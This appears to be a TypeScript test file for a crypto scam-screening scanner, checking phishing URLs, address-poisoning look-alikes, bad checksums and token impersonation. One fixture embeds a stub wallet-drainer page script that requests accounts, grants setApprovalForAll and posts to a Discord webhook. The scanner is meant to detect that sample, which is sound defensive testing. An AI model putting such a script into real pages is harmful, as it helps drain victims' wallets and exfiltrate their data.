import t from 'tap';
import { scanScreening } from '../../src/screening/scan.ts';
import { ScreeningInputError } from '../../src/screening/screening-input-error.ts';
import { DomainError } from '../../src/core/domain-error.ts';
import { SCAM_EVM, smallKnowledge } from './helpers.ts';

const knowledge = smallKnowledge();
const deps = { knowledge };

t.test('request validation throws invalid_screening_request', async (t) => {
  const cases: Array<[object, RegExp]> = [
    [{ type: 'email', chain: 'evm', value: 'x' }, /type must be one of/],
    [{ type: 'url', chain: 'Ethereum', value: 'x.com' }, /chain must be one of/],
    [{ type: 'url', chain: 'evm', value: '' }, /non-empty/],
    [{ type: 'wallet', chain: 'evm', value: '0x12' }, /not a valid evm address/],
    [{ type: 'wallet', chain: 'solana', value: '0OOO' }, /not a valid solana address/],
    [{ type: 'wallet', chain: 'evm', value: SCAM_EVM, walletAddress: 'me' }, /walletAddress/],
  ];
  for (const [req, msg] of cases) {
    const err = await scanScreening(req as never, deps).then(
      () => null,
      (e: unknown) => e,
    );
    t.ok(err instanceof ScreeningInputError && err instanceof DomainError, JSON.stringify(req));
    t.match(err, { code: 'invalid_screening_request', message: msg });
  }
  await t.rejects(scanScreening({ type: 'transaction', chain: 'evm', value: '{"to":"0x1"' }, deps), {
    code: 'invalid_transaction',
  });
});

t.test('url without a fetcher: sandbox.fetched false with the reason; lists used named', async (t) => {
  const r = await scanScreening({ type: 'url', chain: 'evm', value: 'https://phish.example/x' }, deps);
  t.equal(r.verdict, 'block');
  t.equal(r.riskScore, 95);
  t.equal(r.metadata.sandbox?.fetched, false);
  t.equal(r.metadata.sandbox?.reason, 'no page fetcher configured');
  t.same(
    r.listsUsed.map((l) => l.name),
    ['test-list'],
  );
});

t.test('url with a fetcher: page inspected, scamDna returned; failing fetch reported', async (t) => {
  const html =
    '<html><body><h1>Connect ' +
    'wallet</h1><script>ethereum.request({method:"eth_requestAccounts"});token.setApprovalForAll(x,' +
    'true);fetch("https://discord.com/api/webhooks/1/abc")</script></body></html>';
  let asked = '';
  const r = await scanScreening(
    { type: 'url', chain: 'evm', value: 'safe-looking.example' },
    {
      knowledge,
      fetchPage: async (url) => {
        asked = url;
        return { status: 200, headers: {}, body: html, bytes: html.length, truncated: false };
      },
    },
  );
  t.equal(asked, 'https://safe-looking.example');
  t.equal(r.metadata.sandbox?.fetched, true);
  t.match(r.metadata.scamDna?.fingerprint, /^[0-9a-f]{32}$/);
  t.ok(r.findings.some((f) => f.kind === 'page.exfiltration_endpoint'));
  t.equal(r.verdict, 'block', 'high + high + medium findings reach the block score');
  const failed = await scanScreening(
    { type: 'url', chain: 'evm', value: 'x.example' },
    {
      knowledge,
      fetchPage: async () => {
        throw new Error('ECONNREFUSED');
      },
    },
  );
  t.equal(failed.metadata.sandbox?.fetched, false);
  t.match(failed.metadata.sandbox?.reason, /ECONNREFUSED/);
  const refused = await scanScreening(
    { type: 'url', chain: 'evm', value: 'x.example' },
    {
      knowledge,
      fetchPage: async () => ({
        status: 0,
        headers: {},
        body: '',
        bytes: 0,
        truncated: false,
        error: 'blocked: private address',
      }),
    },
  );
  t.equal(refused.metadata.sandbox?.reason, 'blocked: private address');
});

t.test('wallet: listed address blocks, poisoning look-alike warns, bad checksum warns', async (t) => {
  t.equal((await scanScreening({ type: 'wallet', chain: 'ethereum', value: SCAM_EVM }, deps)).verdict, 'block');
  const me = '0xAbCd000000000000000000000000000000001234'.toLowerCase();
  const r = await scanScreening(
    {
      type: 'wallet',
      chain: 'base',
      value: '0xabcd11111111111111111111111111111111234a'.slice(0, 38) + '1234',
      walletAddress: me,
    },
    deps,
  );
  t.ok(r.findings.some((f) => f.kind === 'wallet.address_poisoning' && f.severity === 'high'));
  t.equal(r.verdict, 'warn');
  const clean = await scanScreening(
    { type: 'wallet', chain: 'evm', value: '0x5555555555555555555555555555555555555555', walletAddress: me },
    deps,
  );
  t.equal(clean.verdict, 'allow');
  const cs = await scanScreening(
    { type: 'wallet', chain: 'evm', value: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB4A' },
    deps,
  );
  t.ok(cs.findings.some((f) => f.kind === 'wallet.bad_checksum'));
});

t.test('token: well-known, symbol impersonation with metadata, look-alike symbol', async (t) => {
  const usdc = await scanScreening(
    { type: 'token', chain: 'ethereum', value: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' },
    deps,
  );
  t.equal(usdc.verdict, 'allow');
  t.ok(
    usdc.findings.some(
      (f) => f.kind === 'token.well_known' && f.source.name === 'test tokens' && f.source.version === '1.0.0',
    ),
  );
  const fake = await scanScreening(
    {
      type: 'token',
      chain: 'ethereum',
      value: '0x7777777777777777777777777777777777777777',
      tokenMetadata: { symbol: 'usdc' },
    },
    deps,
  );
  t.ok(fake.findings.some((f) => f.kind === 'token.symbol_impersonation'));
  t.equal(fake.verdict, 'warn');
  const cyr = await scanScreening(
    {
      type: 'token',
      chain: 'ethereum',
      value: '0x7777777777777777777777777777777777777777',
      tokenMetadata: { symbol: 'USDС' },
    },
    deps,
  );
  t.ok(
    cyr.findings.some((f) => f.kind === 'token.symbol_impersonation'),
    'Cyrillic С look-alike',
  );
  const plain = await scanScreening(
    { type: 'token', chain: 'ethereum', value: '0x7777777777777777777777777777777777777777' },
    deps,
  );
  t.equal(plain.verdict, 'allow');
  const sol = await scanScreening(
    {
      type: 'token',
      chain: 'solana',
      value: 'So11111111111111111111111111111111111111112',
      tokenMetadata: { name: 'USD Coin' },
    },
    deps,
  );
  t.ok(sol.findings.some((f) => f.kind === 'token.name_impersonation'));
});
